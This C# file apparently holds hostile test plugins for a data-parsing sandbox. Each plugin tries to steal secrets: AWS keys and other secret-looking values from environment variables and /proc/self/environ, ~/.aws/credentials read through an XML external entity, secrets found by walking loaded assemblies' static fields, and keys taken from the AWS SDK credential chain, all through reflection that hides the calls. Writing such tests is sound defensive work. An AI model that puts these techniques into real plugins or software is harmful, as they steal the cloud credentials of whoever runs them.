using System.Collections;
using System.Reflection;
using System.Text;
using System.Xml;

namespace LetsData.TestPlugins.HostilePlugins;

/// <summary>Reads the secret environment variables through <c>Environment.GetEnvironmentVariable</c> found by name.</summary>
public sealed class EnvironmentByReflectionParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        var found = new List<string>();
        foreach (var name in new[] { "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "LETSDATA_TEST_SECRET", "HOME" })
        {
            found.Add($"{name}={Secrets.Variable(name)}");
        }

        // And everything whose name says secret, key or token.
        if (Late.CallStatic(typeof(Environment), "GetEnvironmentVariables", Type.EmptyTypes) is IDictionary all)
        {
            foreach (DictionaryEntry entry in all)
            {
                if (Secrets.LooksSecret(entry.Key as string))
                {
                    found.Add($"{entry.Key}={entry.Value}");
                }
            }
        }

        return string.Join('\n', found);
    }
}

/// <summary>Reads <c>/proc/self/environ</c> (the environment the process started with) through <c>File.ReadAllBytes</c> found by name.</summary>
public sealed class ProcSelfEnvironParser : HostileParser
{
    protected override string? Attack(Trigger trigger) => Secrets.ReadFile("/proc/self/environ").Replace('\0', '\n');
}

/// <summary>
/// Reads <c>$HOME/.aws/credentials</c> with no file API: an XML document whose external entity is that file, parsed
/// with an <see cref="XmlUrlResolver"/> (the file holds no <c>&lt;</c> or <c>&amp;</c>, so it parses as text).
/// </summary>
public sealed class AwsCredentialsFileViaXmlParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        var home = Secrets.Variable("HOME") ?? "/root";
        var file = new Uri(Path.Combine(home, ".aws", "credentials")).AbsoluteUri;
        var xml = $"<!DOCTYPE loot [<!ENTITY credentials SYSTEM \"{file}\">]><loot>&credentials;</loot>";
        var settings = new XmlReaderSettings { DtdProcessing = DtdProcessing.Parse, XmlResolver = new XmlUrlResolver() };
        using var reader = XmlReader.Create(new StringReader(xml), settings);
        var document = new XmlDocument();
        document.Load(reader);
        return $"{file}:\n{document.DocumentElement?.InnerText}";
    }
}

/// <summary>
/// Walks every loaded assembly's static fields, and the objects they hold a few levels down, for strings that look
/// like secrets: where a worker keeps the credentials it took out of the environment.
/// </summary>
public sealed class StaticFieldSecretsParser : HostileParser
{
    private const int MaxDepth = 4;
    private const int MaxObjects = 200_000;

    protected override string? Attack(Trigger trigger)
    {
        var walk = new Walk();
        foreach (var assembly in AppDomain.CurrentDomain.GetAssemblies())
        {
            foreach (var type in Late.TypesOf(assembly))
            {
                if (type.ContainsGenericParameters)
                {
                    continue;
                }

                var fields = type.GetFields(BindingFlags.Public | BindingFlags.NonPublic | BindingFlags.Static | BindingFlags.DeclaredOnly)
                    .Where(f => !f.IsLiteral && Walk.Readable(f.FieldType)).ToList();
                if (fields.Count == 0)
                {
                    continue;
                }

                try
                {
                    var values = Late.FieldReader(type, fields)(null);
                    for (var i = 0; i < values.Length; i++)
                    {
                        walk.Visit(values[i], $"{type.FullName}.{fields[i].Name}", 0);
                    }
                }
                catch (Exception e) when (e is not OutOfMemoryException)
                {
                    walk.Failures++; // a type initializer that throws, a field the expression compiler refuses
                }
            }
        }

        return $"{walk.Objects} objects, {walk.Failures} unreadable types\n{string.Join('\n', walk.Found)}";
    }

    private sealed class Walk
    {
        private readonly HashSet<object> _seen = new(ReferenceEqualityComparer.Instance);
        private readonly Dictionary<Type, (List<FieldInfo> Fields, Func<object?, object?[]>? Reader)> _readers = [];

        public List<string> Found { get; } = [];

        public int Objects => _seen.Count;

        public int Failures { get; set; }

        public static bool Readable(Type type) =>
            !type.IsPointer && !type.IsByRef && !type.IsByRefLike && !type.IsFunctionPointer && !type.ContainsGenericParameters
            && (type.IsClass || type.IsInterface || (type.IsValueType && !type.IsPrimitive && !type.IsEnum));

        public void Visit(object? value, string path, int depth)
        {
            if (value is null || _seen.Count > MaxObjects || Found.Count > 200 || !_seen.Add(value))
            {
                return;
            }

            switch (value)
            {
                case string text:
                    if (Secrets.LooksSecret(text) || Secrets.LooksSecret(path))
                    {
                        Found.Add($"{path} = {text}");
                    }

                    return;
                case Type or Assembly or MemberInfo or Delegate:
                    return;
                case IDictionary dictionary when depth < MaxDepth:
                    try
                    {
                        foreach (DictionaryEntry entry in dictionary)
                        {
                            if (Secrets.LooksSecret(entry.Key as string) && entry.Value is string secret)
                            {
                                Found.Add($"{path}[{entry.Key}] = {secret}");
                            }
                        }
                    }
                    catch (Exception e) when (e is InvalidOperationException or NotSupportedException)
                    {
                    }

                    break;
            }

            if (depth >= MaxDepth || value.GetType().IsArray)
            {
                return;
            }

            var (fields, reader) = ReaderFor(value.GetType());
            if (reader is null)
            {
                return;
            }

            object?[] values;
            try
            {
                values = reader(value);
            }
            catch (Exception e) when (e is not OutOfMemoryException)
            {
                return;
            }

            for (var i = 0; i < values.Length; i++)
            {
                Visit(values[i], $"{path}.{fields[i].Name}", depth + 1);
            }
        }

        private (List<FieldInfo> Fields, Func<object?, object?[]>? Reader) ReaderFor(Type type)
        {
            if (_readers.TryGetValue(type, out var known))
            {
                return known;
            }

            var fields = new List<FieldInfo>();
            for (var t = type; t is not null && t != typeof(object); t = t.BaseType)
            {
                fields.AddRange(t.GetFields(BindingFlags.Public | BindingFlags.NonPublic | BindingFlags.Instance | BindingFlags.DeclaredOnly)
                    .Where(f => f.FieldType == typeof(string) || (Readable(f.FieldType) && !f.FieldType.IsValueType)));
            }

            Func<object?, object?[]>? reader = null;
            if (fields.Count > 0 && !type.IsValueType)
            {
                try
                {
                    reader = Late.FieldReader(type, fields);
                }
                catch (Exception e) when (e is not OutOfMemoryException)
                {
                    Failures++;
                }
            }

            return _readers[type] = (fields, reader);
        }
    }
}

/// <summary>Loads AWSSDK.Core by name and asks the SDK's default credential chain for the secret key.</summary>
public sealed class AwsSdkCredentialsParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        var sdk = Assembly.Load("AWSSDK.Core");
        var found = new List<string> { $"loaded {sdk.FullName} from {sdk.Location}" };
        foreach (var (typeName, methodName) in new[]
                 {
                     ("Amazon.Runtime.Credentials.DefaultAWSCredentialsIdentityResolver", "GetCredentials"),
                     ("Amazon.Runtime.FallbackCredentialsFactory", "GetCredentials"),
                 })
        {
            try
            {
                var type = Late.FindType(sdk, typeName);
                var method = type.GetMethods(BindingFlags.Public | BindingFlags.Static)
                    .Where(m => m.Name == methodName && m.GetParameters().Length <= 1)
                    .OrderBy(m => m.GetParameters().Length)
                    .First();
                var credentials = Late.Call(method, null, method.GetParameters().Select(_ => (object?)null).ToArray())
                    ?? throw new InvalidOperationException("no credentials");
                var immutable = Late.CallInstance(credentials, "GetCredentials", Type.EmptyTypes)
                    ?? throw new InvalidOperationException("no immutable credentials");
                found.Add($"{typeName}: {credentials.GetType().Name} access key {Late.Property(immutable, "AccessKey")} secret key {Late.Property(immutable, "SecretKey")}");
            }
            catch (Exception e) when (e is not OutOfMemoryException)
            {
                found.Add($"{typeName}: {e.GetType().Name}: {e.Message}");
            }
        }

        return string.Join('\n', found);
    }
}

/// <summary>The late-bound reads the secret attacks share.</summary>
internal static class Secrets
{
    public static string? Variable(string name) =>
        (string?)Late.CallStatic(typeof(Environment), "GetEnvironmentVariable", [typeof(string)], name);

    /// <summary><c>File.ReadAllBytes</c>, found by name.</summary>
    public static string ReadFile(string path) =>
        Encoding.UTF8.GetString((byte[])Late.CallStatic(Late.CoreType("System.IO.File"), "ReadAllBytes", [typeof(string)], path)!);

    public static bool LooksSecret(string? text) =>
        text is not null && (text.Contains("secret", StringComparison.OrdinalIgnoreCase)
                             || text.Contains("AWS_ACCESS_KEY", StringComparison.OrdinalIgnoreCase)
                             || text.Contains("password", StringComparison.OrdinalIgnoreCase));
}
